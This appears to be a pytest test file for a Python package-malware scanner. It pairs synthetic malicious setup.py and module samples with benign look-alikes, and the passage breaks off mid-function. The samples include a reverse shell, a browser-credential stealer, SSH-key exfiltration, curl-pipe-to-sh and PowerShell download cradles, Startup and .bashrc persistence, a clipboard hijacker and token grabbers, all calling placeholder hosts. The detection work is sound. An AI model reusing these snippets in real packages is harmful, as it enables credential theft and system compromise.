"""Every rule: a malicious example it must catch, and a benign but similar example it must let through.

All examples are synthetic (addresses are TEST-NET or .invalid) and are only read by the scanner,
never run. Each malicious example for a strong rule must also reach quarantine on its own.
"""

from __future__ import annotations

import base64
import codecs
import random
import zlib
from collections.abc import Callable

import pytest

from bastion.scanning.result import ScanContext, ScanResult, Verdict
from bastion.scanning.scanner import Scanner
from tests.unit.scanning.conftest import rules


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SETUP_HEAD = "from setuptools import setup\nfrom setuptools.command.install import install\n"
SETUP_TAIL = "\nsetup(name='demo-pkg', version='1.0', cmdclass={'install': Hook})\n"


def hook(body: str, imports: str = "") -> str:
    """A setup.py whose install command runs ``body``."""
    indented = "\n".join("        " + line for line in body.strip().splitlines())
    return f"{SETUP_HEAD}{imports}\nclass Hook(install):\n    def run(self):\n{indented}\n        install.run(self)\n" \
           f"{SETUP_TAIL}"


BUILD_EXT_SETUP = """
import os, subprocess, sys
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext

class CMakeBuild(build_ext):
    def run(self):
        subprocess.check_call(["cmake", "--version"])
        env = os.environ.copy()
        env["CFLAGS"] = env.get("CFLAGS", "") + " -O2"
        subprocess.check_call(["cmake", "-S", ".", "-B", "build"], env=env)
        subprocess.check_call(["cmake", "--build", "build"], env=env)
        super().run()

version = subprocess.check_output(["git", "describe", "--tags"]).decode().strip()
setup(name="demo-pkg", version="1.0", ext_modules=[Extension("demo._speed", ["src/speed.c"])],
      cmdclass={"build_ext": CMakeBuild})
"""

DATA_DOWNLOAD_SETUP = """
import os, urllib.request
from setuptools import setup
from setuptools.command.build_py import build_py

URL = "https://data.example.invalid/tables/unicode-15.txt"

class FetchTables(build_py):
    def run(self):
        target = os.path.join("demo", "data", "tables.txt")
        if not os.path.exists(target):
            with urllib.request.urlopen(URL) as response, open(target, "wb") as out:
                out.write(response.read())
        super().run()

setup(name="demo-pkg", version="1.0", cmdclass={"build_py": FetchTables})
"""

HTTP_CLIENT_LIB = """
import os
import requests

class Client:
    def __init__(self, base_url=None, token=None):
        self.base_url = base_url or os.environ.get("DEMO_API_URL", "https://api.example.invalid")
        self.token = token or os.environ.get("DEMO_API_TOKEN")

    def create(self, payload):
        return requests.post(self.base_url + "/items", json=payload,
                             headers={"Authorization": "Bearer " + str(self.token)})
"""

CONFIG_LIB = """
import os
import socket
import subprocess

def settings():
    return {"debug": os.environ.get("DEMO_DEBUG") == "1", "home": os.environ.get("HOME"),
            "host": socket.gethostname()}

def git_revision():
    return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode()
"""

BASE64_DATA_LIB = f"""
import base64, zlib

ICON = base64.b64decode("{b64('PNG-ish icon bytes ' * 20)}")
TABLE = zlib.decompress(base64.b64decode("{base64.b64encode(zlib.compress(b'1,2,3' * 50)).decode()}"))

def encode(data: bytes) -> str:
    return base64.b64encode(data).decode()
"""

PAYLOAD = "import os\nos.system('id > /tmp/demo-owned')\n"
STEALER_CODE = r"""
import os, json, sqlite3, requests
from win32crypt import CryptUnprotectData

def grab():
    root = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data")
    state = json.load(open(os.path.join(root, "Local State")))
    key = CryptUnprotectData(state["os_crypt"]["encrypted_key"], None, None, None, 0)[1]
    db = sqlite3.connect(os.path.join(root, "Default", "Login Data"))
    rows = db.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    requests.post("https://collector.example.invalid/up", json={"rows": str(rows), "key": str(key)})
grab()
"""

# rule id, malicious files (sdist members), benign-but-similar files, kind ("sdist" or "wheel")
CASES: list[tuple[str, dict[str, str | bytes], dict[str, str | bytes], str]] = [
    ("code.exec-decoded",
     {"setup.py": hook(f"import base64\nexec(base64.b64decode('{b64(PAYLOAD)}'))")},
     {"setup.py": "from setuptools import setup\nabout = {}\nexec(open('demo/__about__.py').read(), about)\n"
                  "setup(name='demo-pkg', version=about['__version__'])\n"}, "sdist"),
    ("code.exec-decoded",  # chr arithmetic, reversed strings and join: the folding evaluator sees through them
     {"demo/__init__.py": "exec(''.join(chr(c) for c in [" + ",".join(str(ord(ch)) for ch in PAYLOAD) + "]))\n"},
     {"demo/__init__.py": "ALPHABET = ''.join(chr(c) for c in range(97, 123))\nREVERSED = ALPHABET[::-1]\n"},
     "wheel"),
    ("code.exec-decoded",
     {"demo/__init__.py": f"import codecs\nexec(codecs.decode({codecs.encode(PAYLOAD, 'rot13')!r}, 'rot13'))\n"},
     {"demo/__init__.py": "import codecs\nSECRET = codecs.decode('uryyb', 'rot13')\nprint(SECRET)\n"}, "wheel"),
    ("code.exec-decoded",
     {"demo/__init__.py": f"_p = {PAYLOAD[::-1]!r}\nexec(_p[::-1])\n"},
     {"demo/__init__.py": "def tail(items):\n    return items[::-1]\n"}, "wheel"),
    ("code.download-exec",
     {"setup.py": hook("import urllib.request\ncode = urllib.request.urlopen('http://203.0.113.7/p').read()\n"
                       "exec(code)")},
     {"setup.py": DATA_DOWNLOAD_SETUP}, "sdist"),
    ("code.download-exec",
     {"demo/__init__.py": "import os, requests\nr = requests.get('https://cdn.example.invalid/u.exe')\n"
                          "open('u.exe', 'wb').write(r.content)\nos.startfile('u.exe')\n"},
     {"demo/__init__.py": "import requests\n\ndef fetch(path):\n    r = requests.get('https://data.example.invalid/' + path)\n"
                          "    with open(path, 'wb') as out:\n        out.write(r.content)\n"}, "wheel"),
    ("code.drop-decoded",
     {"setup.py": hook(f"import base64, subprocess, sys\nopen('x.py', 'w').write(base64.b64decode('{b64(PAYLOAD)}')"
                       ".decode())\nsubprocess.Popen([sys.executable, 'x.py'])")},
     {"setup.py": BUILD_EXT_SETUP}, "sdist"),
    ("code.powershell-encoded",
     {"setup.py": hook("import subprocess\nsubprocess.Popen('powershell -w hidden -enc "
                       + base64.b64encode("Write-Host hi".encode('utf-16le')).decode() + "', shell=True)")},
     {"setup.py": hook("import subprocess\nsubprocess.call(['powershell', '-NoProfile', '-File', 'build.ps1'])")},
     "sdist"),
    ("code.shell-download",
     {"setup.py": hook("import os\nos.system('curl -s http://203.0.113.9/i.sh | sh')")},
     {"setup.py": hook("import os\nos.system('make -C native')")}, "sdist"),
    ("code.shell-fetch",
     {"setup.py": hook("import os\nos.system('wget https://203.0.113.9/tool -O /tmp/tool')")},
     {"demo/cli.py": "import subprocess\nimport requests\n\ndef update():\n"
                     "    subprocess.run(['curl', '-O', 'https://files.example.invalid/data.csv'])\n"}, "sdist"),
    ("code.exfiltrate-host-info",
     {"setup.py": hook("import socket, getpass, requests\nrequests.get('https://probe.example.invalid/c', "
                       "params={'h': socket.gethostname(), 'u': getpass.getuser()})")},
     {"demo/config.py": CONFIG_LIB, "demo/client.py": HTTP_CLIENT_LIB}, "sdist"),
    ("code.exfiltrate-host-info",  # a dependency-confusion probe over DNS, hidden in the package __init__
     {"demo/__init__.py": "import socket, os\nsocket.gethostbyname(os.getlogin() + '.' + socket.gethostname() + "
                          "'.probe.example.invalid')\n"},
     {"demo/__init__.py": "import socket\n\ndef resolve(host):\n    return socket.gethostbyname(host)\n"}, "wheel"),
    ("code.hidden-endpoint",
     {"demo/__init__.py": f"import base64, requests\nrequests.post(base64.b64decode('{b64('https://x.example.invalid/c')}')"
                          ".decode(), data={'a': 1})\n"},
     {"demo/__init__.py": HTTP_CLIENT_LIB}, "wheel"),
    ("install.raw-socket",
     {"setup.py": hook("import socket\ns = socket.socket()\ns.connect(('203.0.113.4', 4444))\ns.sendall(b'hi')")},
     {"setup.py": BUILD_EXT_SETUP}, "sdist"),
    ("code.steal-credentials",
     {"demo/__init__.py": STEALER_CODE},
     {"demo/__init__.py": "# Browsers keep 'Login Data' in a SQLite file; this tool only documents it.\n"
                          "import requests\n\ndef docs():\n    return requests.get('https://docs.example.invalid')\n"},
     "wheel"),
    ("code.credential-files-install",
     {"setup.py": hook("import os, requests\nkeys = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                       "requests.post('https://keys.example.invalid', data=keys)")},
     {"demo/ssh.py": "import os, socket\nKEY = os.path.expanduser('~/.ssh/id_rsa')\n\ndef connect(host):\n"
                     "    return socket.create_connection((host, 22))\n"}, "sdist"),
    ("code.exfil-endpoint",
     {"setup.py": hook("import requests\nrequests.post('https://webhook.site/0000-demo', data=open('/etc/hostname').read())")},
     {"demo/links.py": "SUPPORT = 'See https://pastebin.com/raw/example for the format.'\n"}, "sdist"),
    ("code.reverse-shell",
     {"demo/__init__.py": "import socket, os, pty\ns = socket.socket()\ns.connect(('203.0.113.5', 9001))\n"
                          "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn('/bin/sh')\n"},
     {"demo/pty_helper.py": "import os, pty\n\ndef run(cmd):\n    pid, fd = pty.fork()\n    return pid, fd\n"},
     "wheel"),
    ("code.persistence",
     {"setup.py": hook("import os, sys, shutil\nshutil.copy(sys.executable, os.path.expandvars("
                       "r'%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\upd.exe'))")},
     {"demo/paths.py": "STARTUP_DOC = 'Windows runs programs in the Start Menu\\\\Programs\\\\Startup folder'\n"},
     "sdist"),
    ("install.shell-rc",
     {"setup.py": hook("import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n"
                       "    f.write('\\n~/.cache/agent &\\n')")},
     {"demo/completion.py": "from pathlib import Path\n\ndef install_completion():\n"
                            "    rc = Path.home() / '.bashrc'\n    with open(rc, 'a') as f:\n"
                            "        f.write('eval \"$(demo --completion)\"')\n"}, "sdist"),
    ("code.clipboard-hijack",
     {"demo/__init__.py": "import re, pyperclip\nwhile True:\n    text = pyperclip.paste()\n"
                          "    if re.match(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$', text):\n"
                          "        pyperclip.copy('bc1qexampleexampleexampleexampleexample00')\n"},
     {"demo/__init__.py": "import re, pyperclip\n\ndef copy_cell(text):\n    if re.match(r'^\\d+$', text):\n"
                          "        pyperclip.copy(text)\n"}, "wheel"),
    ("code.miner",
     {"setup.py": hook("import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example.invalid:3333',"
                       " '--donate-level', '1'])")},
     {"demo/hashing.py": "import hashlib\n\ndef mine_block(data):\n    return hashlib.sha256(data).hexdigest()\n"},
     "sdist"),
    ("code.shellcode-loader",
     {"demo/__init__.py": "import ctypes\nbuf = b'" + "\\x90" * 80 + "'\nk = ctypes.windll.kernel32\n"
                          "p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nk.RtlMoveMemory(p, buf, len(buf))\n"
                          "h = k.CreateThread(0, 0, p, 0, 0, 0)\n"},
     {"demo/win.py": "import ctypes\nk = ctypes.windll.kernel32\n\ndef protect(addr, size):\n"
                     "    old = ctypes.c_ulong()\n    return k.VirtualProtect(addr, size, 0x20, ctypes.byref(old))\n"},
     "wheel"),
    ("code.builtins-lookup",
     {"demo/__init__.py": "import builtins\nf = getattr(builtins, 'ex' + 'ec')\nf('print(1)')\n"},
     {"demo/__init__.py": "import builtins\nprint_ = getattr(builtins, 'print')\nprint_('hello')\n"}, "wheel"),
    ("code.obfuscated-import",
     {"demo/__init__.py": "m = __import__(''.join(map(chr, [111, 115])))\nm.system('id')\n"},
     {"demo/__init__.py": "import importlib\n\ndef plugin(name):\n    return importlib.import_module('demo.plugins.' + name)\n"},
     "wheel"),
    ("code.homoglyph",
     {"demo/__init__.py": "import base64\n\uff45\uff58\uff45\uff43(base64.b64decode('cHJpbnQoMSk='))\n"},
     {"demo/__init__.py": "# Grüße: non-ASCII in comments and strings is fine\nGREETING = 'Grüße, Ελλάδα'\n"
                          "import base64\nexec_count = base64.b64decode('MQ==')\n"}, "wheel"),
    ("code.encoded-blob",
     {"setup.py": hook(f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('"
                       f"{base64.b64encode(zlib.compress(random.Random(7).randbytes(3000))).decode()}')))")},
     {"demo/__init__.py": BASE64_DATA_LIB}, "sdist"),
    ("code.anti-analysis",
     {"demo/__init__.py": "import os, subprocess, base64\nBAD = ['vmware', 'VirtualBox', 'vboxservice', 'wireshark', "
                          "'WDAGUtilityAccount']\nif os.getlogin() in BAD:\n    raise SystemExit\n"
                          "exec(base64.b64decode('cHJpbnQoMSk='))\n"},
     {"demo/__init__.py": "import base64, subprocess\nHYPERVISORS = {'kvm': 'KVM'}\n"
                          "data = base64.b64decode('MQ==')\nsubprocess.run(['true'])\n"}, "wheel"),
    ("install.process",
     {"setup.py": hook("import subprocess\nsubprocess.check_call(['make'])")},
     {"setup.py": "from setuptools import setup\nsetup(name='demo-pkg', version='1.0')\n"}, "sdist"),
    ("install.network",
     {"setup.py": DATA_DOWNLOAD_SETUP},
     {"setup.py": "from setuptools import setup\nsetup(name='demo-pkg', version='1.0', url='https://example.invalid')\n"},
     "sdist"),
    ("install.hook",
     {"setup.py": hook("print('building')")},
     {"setup.py": "from setuptools import setup\nsetup(name='demo-pkg', version='1.0')\n"}, "sdist"),
    ("install.pth-exec",
     {"demo-init.pth": f"import base64; exec(base64.b64decode('{b64(PAYLOAD)}'))\n"},
     {"demo.pth": "./src\n"}, "wheel"),
    ("code.unparsable-install",
     {"setup.py": "import os\nprint 'installing'\nos.system('curl http://203.0.113.3/x | sh')\n"},
     {"setup.py": "from setuptools import setup\nsetup(name='demo-pkg', version='1.0')\n"}, "sdist"),
    ("code.autostart-write",
     {"demo/__init__.py": f"import os, base64\np = os.path.join(os.getenv('APPDATA'), 'Microsoft', 'Windows', "
                          f"'Start Menu', 'Programs', 'Startup', 'upd.pyw')\n"
                          f"open(p, 'w').write(base64.b64decode('{b64(PAYLOAD)}').decode())\n"},
     {"demo/__init__.py": "import json, os\n\ndef save(cache, data):\n"
                          "    with open(os.path.join(cache, 'startup_times.json'), 'w') as f:\n"
                          "        f.write(json.dumps(data))\n"}, "wheel"),
    ("code.credential-stores",
     {"demo/__init__.py": "import os, shutil\nHOME = os.path.expanduser('~')\n"
                          "SOURCES = [os.path.join(os.getenv('APPDATA'), 'Telegram Desktop\\\\tdata'),\n"
                          "           os.path.join(os.getenv('APPDATA'), 'Exodus\\\\exodus.wallet')]\n"
                          "for src in SOURCES:\n    shutil.copytree(src, os.path.join(HOME, 'x'))\n"},
     {"demo/__init__.py": "class Wallet:\n    \"\"\"A wallet of coupons for the demo shop.\"\"\"\n\n"
                          "    def __init__(self):\n        self.items = []\n"}, "wheel"),
    ("code.credential-store",
     {"demo/__init__.py": "import os, subprocess\nTD = os.path.join(os.getenv('APPDATA'), 'Telegram Desktop\\\\tdata')\n"
                          "subprocess.run(['explorer', TD])\n"},
     {"demo/__init__.py": "TELEGRAM_DOCS = 'https://core.telegram.org/bots/api'\n"}, "wheel"),
    ("code.credential-files",
     {"demo/aws.py": "import os\nimport requests\nCREDENTIALS = os.path.expanduser('~/.aws/credentials')\n\n"
                     "def region():\n    return requests.get('https://metadata.example.invalid/region').text\n"},
     {"demo/aws.py": "import os\nCONFIG = os.path.expanduser('~/.demo/config.toml')\n"}, "sdist"),
    ("code.clipboard",
     {"demo/copy.py": "import re, pyperclip\n\ndef copy(text):\n    if re.match('^[a-z]+$', text):\n"
                      "        pyperclip.copy(text)\n"},
     {"demo/copy.py": "import re\n\ndef copy(text):\n    return re.match('^[a-z]+$', text)\n"}, "sdist"),
    ("code.download-executable",
     {"demo/drivers.py": "import os, requests\nCACHE = os.environ.copy().get('DEMO_CACHE', '.')\n\ndef fetch(version):\n"
                         "    r = requests.get('https://dl.example.invalid/' + version)\n"
                         "    with open('driver.exe', 'wb') as out:\n        out.write(r.content)\n"},
     {"demo/drivers.py": "import requests\n\ndef fetch(version):\n"
                         "    r = requests.get('https://dl.example.invalid/' + version)\n"
                         "    with open('driver.json', 'wb') as out:\n        out.write(r.content)\n"}, "sdist"),
    ("code.download-run",
     {"demo/vendor.py": "import subprocess, urllib.request\n\ndef build():\n"
                        "    urllib.request.urlretrieve('https://src.example.invalid/lib.tar.gz', 'lib.tar.gz')\n"
                        "    subprocess.check_call(['make', '-C', 'lib'])\n"},
     {"demo/vendor.py": "import subprocess, urllib.request\n\ndef fetch():\n"
                        "    urllib.request.urlretrieve('https://src.example.invalid/lib.tar.gz', 'lib.tar.gz')\n\n"
                        "def build():\n    subprocess.check_call(['make', '-C', 'lib'])\n"}, "sdist"),
    ("code.ip-lookup",
     {"demo/geo.py": "import requests, subprocess\n\ndef where():\n    return requests.get('https://api.ipify.org').text\n"},
     {"demo/geo.py": "import requests, subprocess\n\ndef where():\n"
                     "    return requests.get('https://geo.example.invalid').text\n"}, "sdist"),
    ("code.raw-ip-url",
     {"demo/net.py": "import requests, subprocess\n\ndef ping():\n    return requests.get('http://198.51.100.7/ping')\n"},
     {"demo/net.py": "import requests, subprocess\n\ndef ping():\n    return requests.get('http://127.0.0.1:8080/ping')\n"},
     "sdist"),
    ("install.exec",
     {"setup.py": "import os\nfrom setuptools import setup\nexec(os.environ.get('DEMO_SETUP_HOOK', ''))\n"
                  "setup(name='demo-pkg', version='1.0')\n"},
     {"setup.py": "from setuptools import setup\nabout = {}\nexec(open('demo/__about__.py').read(), about)\n"
                  "setup(name='demo-pkg', version=about['__version__'])\n"}, "sdist"),
    ("install.fetch-and-run",
     {"setup.py": hook("import subprocess\n"
                       "subprocess.check_call(['git', 'clone', 'https://git.example.invalid/x.git'])\n"
                       "subprocess.check_call(['python', 'x/run.py'])")},
     {"setup.py": DATA_DOWNLOAD_SETUP + "\n" + BUILD_EXT_SETUP.split("\nversion =")[0]}, "sdist"),
    ("install.pip-install",
     {"setup.py": "import subprocess, sys\nfrom setuptools import setup\n"
                  "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'helper-tool'])\n"
                  "setup(name='demo-pkg', version='1.0')\n"},
     {"setup.py": "from setuptools import setup\n"
                  "setup(name='demo-pkg', version='1.0', install_requires=['helper-tool'])\n"}, "sdist"),
    ("code.hidden-command",
     {"setup.py": hook(f"import base64, os\nos.system(base64.b64decode('{b64('id > /tmp/demo-owned')}').decode())")},
     {"setup.py": hook("import base64, subprocess\nsubprocess.run(['git', 'rev-parse', 'HEAD'])\n"
                       "LOGO = base64.b64decode('UE5H')")}, "sdist"),
    ("code.shell-rc-payload",
     {"demo/__init__.py": "import os\nrc = os.path.expanduser('~/.bashrc')\nwith open(rc, 'a') as f:\n"
                          "    f.write('nohup sh -c \"wget -q https://dl.example.invalid/a -O ~/.local/.a; chmod +x ~/.local/.a\" &')\n"},
     {"demo/completion.py": "import os\n\ndef install():\n    rc = os.path.expanduser('~/.bashrc')\n"
                            "    with open(rc, 'a') as f:\n        f.write('eval \"$(demo --completion bash)\"')\n"}, "wheel"),
    # YARA rules
    ("yara.powershell-encoded",
     {"demo/run.bat": "powershell.exe -NoP -enc " + base64.b64encode("IEX x".encode("utf-16le") * 4).decode() + "\n"},
     {"demo/run.bat": "powershell.exe -NoProfile -ExecutionPolicy Bypass -File build.ps1\n"}, "sdist"),
    ("yara.powershell-download-cradle",
     {"demo/run.ps1": "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.2/a.ps1')\"\n"},
     {"demo/lexer.py": "KEYWORDS = ['Invoke-Expression', 'DownloadString', 'powershell', 'Invoke-WebRequest']\n"},
     "sdist"),
    ("yara.defender-exclusion",
     {"demo/run.py": "import subprocess\nsubprocess.run('powershell Add-MpPreference -ExclusionPath C:\\\\', shell=True)\n"},
     {"demo/docs.py": "HELP = 'Add-MpPreference is a Defender cmdlet.'\n"}, "sdist"),
    ("yara.crypto-miner",
     {"demo/miner.json": '{"url": "stratum+tcp://pool.example.invalid:3333"}',
      "demo/conf.py": "POOL = 'stratum+tcp://pool.example.invalid:3333'\n"},
     {"demo/conf.py": "PROTOCOLS = ['tcp', 'udp']\nPOOL_SIZE = 8\n"}, "sdist"),
    ("yara.embedded-pe",
     {"demo/helper.exe": b"MZ" + b"\x90" * 58 + b"\x80\x00\x00\x00" + b"\x00" * 200},
     {"demo/readme.txt": b"MZ is the magic of Windows executables."}, "sdist"),
    ("yara.embedded-elf",
     {"demo/helper": b"\x7fELF\x02\x01\x01" + b"\x00" * 200},
     {"demo/data.bin": b"\x00ELF" + b"\x00" * 200}, "sdist"),
    ("yara.embedded-macho",
     {"demo/helper": b"\xcf\xfa\xed\xfe" + b"\x00" * 200},
     {"demo/data.bin": b"\xfe\xed\x00\x00" + b"\x00" * 200}, "sdist"),
    ("yara.discord-webhook-token",
     {"demo/__init__.py": "HOOK = 'https://discord.com/api/webhooks/123456789012345678/"
                          "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_abcdefgh'\n"},
     {"demo/__init__.py": "PATTERN = r'discord(?:app)?\\.com/api/webhooks/(?P<id>[0-9]{17,20})/(?P<token>[\\w-]+)'\n"},
     "wheel"),
    ("yara.telegram-bot-exfil",
     {"demo/__init__.py": "import requests\nTOKEN = '123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw0'\n"
                          "requests.post(f'https://api.telegram.org/bot{TOKEN}/sendDocument', files={'f': b''})\n"},
     {"demo/__init__.py": "API = 'https://api.telegram.org/bot{token}/getMe'\n"}, "wheel"),
    ("yara.discord-token-grabber",
     {"demo/__init__.py": "import os, re\np = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n"
                          "TOKEN = re.compile(r'[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}')\n"},
     {"demo/__init__.py": "LEVELDB_DOC = 'Chrome keeps Local Storage in leveldb files.'\n"}, "wheel"),
    ("yara.browser-credential-stealer",
     {"demo/__init__.py": STEALER_CODE},
     {"demo/__init__.py": "# The 'Login Data' file of a browser profile is a SQLite database.\n"}, "wheel"),
    ("yara.crypto-wallet-stealer",
     {"demo/__init__.py": "WALLETS = ['Exodus', 'Electrum', 'Atomic', 'wallet.dat', 'Coinomi']\n"},
     {"demo/__init__.py": "SUPPORTED = ['Electrum server protocol']\n"}, "wheel"),
    ("yara.pyarmor-protected",
     {"demo/__init__.py": "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000')\n"},
     {"demo/__init__.py": "# We considered armoring this module.\narmor = None\n"}, "wheel"),
    ("yara.lambda-obfuscation",
     {"demo/__init__.py": "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
                          "exec((_)(b'=='))\n"},
     {"demo/__init__.py": "square = lambda x: x * x\n_ = lambda value: value\n"}, "wheel"),
    ("yara.known-python-obfuscators",
     {"demo/__init__.py": "__obfuscator__ = 'Hyperion'\nIlIlIlIlIlIl = 1\n"},
     {"demo/__init__.py": "__author__ = 'Hyperion Labs'\nvalue = 1\n"}, "wheel"),
    ("yara.exec-compressed-blob",
     {"demo/__init__.py": "import zlib, base64\nexec(zlib.decompress(base64.b64decode(b'"
                          + base64.b64encode(zlib.compress(b"print(1)\n" * 80)).decode() + "')))\n"},
     {"demo/__init__.py": "import zlib\nDATA = zlib.decompress(b'x\\x9c\\x03\\x00\\x00\\x00\\x00\\x01')\n"}, "wheel"),
]

WEAK_RULES = {"install.process", "install.network", "install.hook", "install.pth-exec", "code.unparsable-install",
              "code.shell-fetch", "yara.embedded-pe", "yara.embedded-elf", "yara.embedded-macho",
              "yara.pyarmor-protected", "code.encoded-blob", "code.exfil-endpoint", "code.anti-analysis",
              "yara.discord-webhook-token", "yara.telegram-bot-exfil", "install.raw-socket", "code.credential-store",
              "code.credential-files", "code.clipboard", "code.download-executable", "code.download-run",
              "code.ip-lookup", "code.raw-ip-url", "install.exec", "install.pip-install"}
"""Signals that add to others but are normal or inconclusive alone: they must fire, not quarantine alone."""


@pytest.mark.parametrize(("rule", "bad", "good", "kind"), CASES, ids=[f"{c[0]}-{i}" for i, c in enumerate(CASES)])
def test_rule_catches_malicious_and_passes_benign(
        rule: str, bad: dict[str, str | bytes], good: dict[str, str | bytes], kind: str,
        scan_sdist: Callable[..., ScanResult], scan_wheel: Callable[..., ScanResult]) -> None:
    scan = scan_sdist if kind == "sdist" else scan_wheel
    result = scan(bad)
    assert result.error is None
    assert rule in rules(result), f"{rule} missed: {[(f.rule, f.excerpt) for f in result.findings]}"
    if rule not in WEAK_RULES:
        assert result.verdict != Verdict.ALLOW, (result.score, [(f.rule, f.severity) for f in result.findings])
    benign = scan(good)
    assert benign.error is None
    assert benign.verdict == Verdict.ALLOW, (benign.score, [(f.rule, f.severity, f.excerpt) for f in benign.findings])
    if rule not in WEAK_RULES or rule.startswith("yara."):
        assert rule not in rules(benign), [(f.rule, f.excerpt) for f in benign.findings]


def test_every_code_rule_has_a_case() -> None:
    import re
    from pathlib import Path

    import bastion.scanning.code as code
    declared = set(re.findall(r'add\(\s*"([a-z]+\.[a-z-]+)"', Path(code.__file__).read_text()))
    assert len(declared) > 30
    assert sorted(declared - {case[0] for case in CASES}) == []


def test_every_yara_rule_has_a_case(scanner: Scanner) -> None:
    covered = {case[0] for case in CASES}
    missing = [rule for rule in scanner.rule_ids() if rule not in covered]
    assert missing == []


def test_benign_build_patterns_stay_allowed(scan_sdist: Callable[..., ScanResult]) -> None:
    result = scan_sdist({"setup.py": BUILD_EXT_SETUP, "demo/config.py": CONFIG_LIB, "demo/client.py": HTTP_CLIENT_LIB,
                         "demo/data.py": BASE64_DATA_LIB, "setup2.py": DATA_DOWNLOAD_SETUP})
    assert result.verdict == Verdict.ALLOW
    assert result.score < 2.0, [(f.rule, f.severity) for f in result.findings]


def test_install_hook_alone_scores_low_and_payload_in_hook_scores_high(scan_sdist: Callable[..., ScanResult]) -> None:
    plain = scan_sdist({"setup.py": hook("print('post-install message')")})
    assert plain.score <= 1.0
    loaded = scan_sdist({"setup.py": hook(f"import base64\nexec(base64.b64decode('{b64(PAYLOAD)}'))")})
    assert loaded.score >= 8.0


def test_decoded_payload_is_analysed_and_reported(scan_wheel: Callable[..., ScanResult]) -> None:
    inner = "import socket, os\ns = socket.socket()\ns.connect(('203.0.113.5', 9001))\nos.dup2(s.fileno(), 0)\n"
    result = scan_wheel({"demo/__init__.py": f"import base64\nexec(base64.b64decode('{b64(inner)}'))\n"})
    assert {"code.exec-decoded", "code.reverse-shell"} <= rules(result)


def test_metadata_signals_alone_stay_below_quarantine(scan_sdist: Callable[..., ScanResult]) -> None:
    metadata = ("Metadata-Version: 2.1\nName: reqursts\nVersion: 0.0.0\nAuthor-email: a@mailinator.com\n"
                "Requires-Dist: evil-pkg\n")
    context = ScanContext(project_name="reqursts", new_project=True, known_malicious=frozenset({"evil-pkg"}),
                          resembles="requests")
    result = scan_sdist({"reqursts/__init__.py": "VALUE = 1\n"}, name="reqursts", version="0.0.0",
                        metadata=metadata, context=context)
    found = rules(result)
    assert {"meta.disposable-email", "meta.zero-version", "meta.no-description", "meta.requires-malicious",
            "name.typosquat"} <= found
    assert result.verdict == Verdict.ALLOW and result.score < 4.0
    # ... but they add to code signals
    with_code = scan_sdist({"setup.py": DATA_DOWNLOAD_SETUP, "reqursts/__init__.py": "VALUE = 1\n"},
                           name="reqursts", version="0.0.0", metadata=metadata, context=context)
    alone = scan_sdist({"setup.py": DATA_DOWNLOAD_SETUP})
    assert with_code.score > alone.score


def test_broken_metadata_is_tolerated(scan_sdist: Callable[..., ScanResult]) -> None:
    result = scan_sdist({"demo/__init__.py": "VALUE = 1\n"}, metadata="\x00\xff garbage: : :\n\n\n")
    assert result.error is None
    assert result.verdict == Verdict.ALLOW


def test_metadata_clean_package_has_no_metadata_findings(scan_sdist: Callable[..., ScanResult]) -> None:
    result = scan_sdist({"demo/__init__.py": "VALUE = 1\n"})
    assert not [f for f in result.findings if f.category in ("metadata", "name")]


def test_findings_point_at_file_and_line(scan_sdist: Callable[..., ScanResult]) -> None:
    result = scan_sdist({"setup.py": hook(f"import base64\nexec(base64.b64decode('{b64(PAYLOAD)}'))")})
    finding = next(f for f in result.findings if f.rule == "code.exec-decoded")
    assert finding.file.endswith("/setup.py")
    assert finding.line == 7
    assert "exec(" in finding.excerpt and finding.why
    assert finding.severity >= 8.0 and finding.category == "execution"


def test_rules_version_is_stable_and_short(scanner: Scanner) -> None:
    assert scanner.rules_version == Scanner().rules_version
    assert 8 <= len(scanner.rules_version) <= 16


def test_one_scanner_serves_many_threads(scanner: Scanner, scan_sdist: Callable[..., ScanResult],
                                        tmp_path_factory: pytest.TempPathFactory) -> None:
    from concurrent.futures import ThreadPoolExecutor
    from pathlib import Path

    from tests.distbuilder import make_sdist
    folder = tmp_path_factory.mktemp("threads")
    bad = make_sdist(folder, "bad", "1.0", files={"setup.py": hook(f"import base64\nexec(base64.b64decode('{b64(PAYLOAD)}'))").encode()})
    good = make_sdist(folder, "good", "1.0", files={"setup.py": BUILD_EXT_SETUP.encode()})
    paths: list[Path] = [bad, good] * 20
    with ThreadPoolExecutor(max_workers=8) as pool:
        results = list(pool.map(scanner.scan, paths))
    assert [r.verdict != Verdict.ALLOW for r in results] == [True, False] * 20
    assert len({(r.score, tuple(r.findings)) for r in results[::2]}) == 1


def test_one_rule_repeated_across_files_does_not_add_up(scan_sdist: Callable[..., ScanResult]) -> None:
    """Launcher executables (pip, setuptools and distlib ship a dozen) are one observation, not twelve."""
    pe = b"MZ" + b"\x90" * 58 + b"\x80\x00\x00\x00" + b"\x00" * 200
    result = scan_sdist({f"demo/launchers/t{i}.exe": pe for i in range(40)})
    assert sum(f.rule == "yara.embedded-pe" for f in result.findings) == 40
    assert result.verdict == Verdict.ALLOW and result.score < 3.0


def test_test_code_weighs_little_unless_package_code_imports_it(scan_wheel: Callable[..., ScanResult]) -> None:
    payload = f"import base64\n\ndef reset():\n    exec(base64.b64decode('{b64(PAYLOAD)}'))\n"
